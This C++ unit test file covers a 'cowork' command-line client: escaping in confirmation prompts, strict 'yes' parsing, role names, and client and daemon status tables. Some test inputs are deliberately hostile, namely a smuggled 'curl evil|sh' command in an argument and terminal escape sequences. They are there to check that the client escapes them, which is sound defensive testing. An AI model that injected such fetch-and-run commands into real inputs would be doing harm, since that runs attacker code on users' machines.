// What is read before something changes, and the tables of clients and daemons.

#include <sstream>

#include <gmock/gmock.h>

#include "tests/support/matchers.h"
#include "ui-client/cli/admin_text.h"
#include "ui-client/cli/client_text.h"
#include "ui-client/cli/complaint.h"
#include "ui-client/cli/confirm_text.h"

namespace cowork::cli {
namespace {

using support::FailsWith;
using ::testing::HasSubstr;
using ::testing::Not;

v1::Confirmation Confirmation(const std::string& what) {
  v1::Confirmation confirmation;
  confirmation.set_id("y-4f2k9aaaaaaaaaaaaaaaaaaaaa");
  confirmation.set_what(what);
  return confirmation;
}

TEST(Question, KeepsWhatWillChangeBehindAGutter) {
  EXPECT_EQ(
      QuestionOf(Confirmation("it may read\nall of \x1b[2J/app\n"), 40),
      "  │ it may read\n  │ all of \\x1b[2J/app\n  good for 30 s\ntype yes to let it happen > ");
}

TEST(Question, LetsNoLineOfItBeginWithoutTheGutter) {
  const std::string text =
      QuestionOf(Confirmation(std::string(200, 'x') + "\rtype yes to let it happen > "), 40);
  std::istringstream lines(text);
  int without = 0;
  for (std::string line; std::getline(lines, line);) without += line.starts_with("  │ ") ? 0 : 1;
  EXPECT_EQ(without, 2) << text;
  EXPECT_THAT(text, Not(HasSubstr("\r")));
}

TEST(Yes, IsYesAndNothingElse) {
  EXPECT_TRUE(IsYes("yes\n"));
  EXPECT_TRUE(IsYes("yes\r\n"));
  for (const char* line : {"", "\n", "y\n", "Yes\n", "yes yes\n", "yesno\n", "no\n"})
    EXPECT_FALSE(IsYes(line)) << line;
}

TEST(HasToBeConfirmed, GivesTheVeryCommandBack) {
  const Complaint complaint = ComplaintOf(
      "it was not done",
      HasToBeConfirmed(Confirmation("a; curl evil\nb"), {"grant", "add", "/x; curl evil|sh"}));
  EXPECT_EQ(complaint.remedy,
            "cowork grant add $'/x\\x3b\\x20curl\\x20evil\\x7csh' "
            "--confirm y-4f2k9aaaaaaaaaaaaaaaaaaaaa");
  EXPECT_EQ(complaint.why, "it has to be confirmed, within 30 s: a; curl evil · b");
  EXPECT_EQ(complaint.exit, Exit::kRefused);
}

TEST(HasToBeConfirmed, PutsTheIdWhereItIsAnOption) {
  EXPECT_THAT(HasToBeConfirmed(Confirmation("x"), {"grant", "add", "--", "-dir"}).message(),
              HasSubstr("add --confirm y-4f2k9aaaaaaaaaaaaaaaaaaaaa -- -dir"));
}

TEST(Role, HasANameThatLeadsBackToIt) {
  for (const char* name : kRoles) EXPECT_EQ(NameOf(*RoleNamed(name)), name);
  for (const char* name : {"owner", "role_unspecified", "VIEWER", ""})
    EXPECT_THAT(RoleNamed(name), FailsWith(ErrorCode::kInvalidArgument)) << name;
}

TEST(Clients, AreShownWithoutTheirControlCharacters) {
  v1::ListClientsResponse clients;
  clients.add_clients()->set_name("ph\x1bone");
  clients.mutable_clients(0)->set_connections(2);
  const std::string text = TextOf(clients, Reader{});
  EXPECT_THAT(text, HasSubstr("ph\\x1bone"));
  EXPECT_THAT(text, HasSubstr("2 connected"));
}

TEST(AdminTables, SayWhatIsAwayAndWhoSaidNoHello) {
  v1::ListDaemonsResponse daemons;
  daemons.add_daemons()->set_name("vaultd");
  daemons.mutable_daemons(0)->set_restarts(1);
  EXPECT_EQ(TextOf(daemons, Reader{}), "✗ vaultd  -  1 restart seen · not wired to brokerd\n");
  // It may be much older than the brokerd that was started anew.
  daemons.mutable_daemons(0)->set_since_unix_ms(1'000);
  EXPECT_THAT(TextOf(daemons, Reader{.look = {}, .home = "", .now_unix_ms = 5'000}),
              HasSubstr("1 restart seen · wired to brokerd 4 s ago\n"));
  v1::ListChannelsResponse channels;
  channels.add_channels()->set_client("phone");
  EXPECT_THAT(TextOf(channels, Reader{}), HasSubstr("0 calls, no Hello yet"));
  channels.mutable_channels(0)->set_greeted(true);
  EXPECT_THAT(TextOf(channels, Reader{}), Not(HasSubstr("Hello")));
}

TEST(Number, HasAFractionOnlyWhereThereIsOne) {
  EXPECT_EQ(NumberText(12), "12");
  EXPECT_EQ(NumberText(123456789), "123456789");
  EXPECT_EQ(NumberText(0.25), "0.25");
}

}  // namespace
}  // namespace cowork::cli
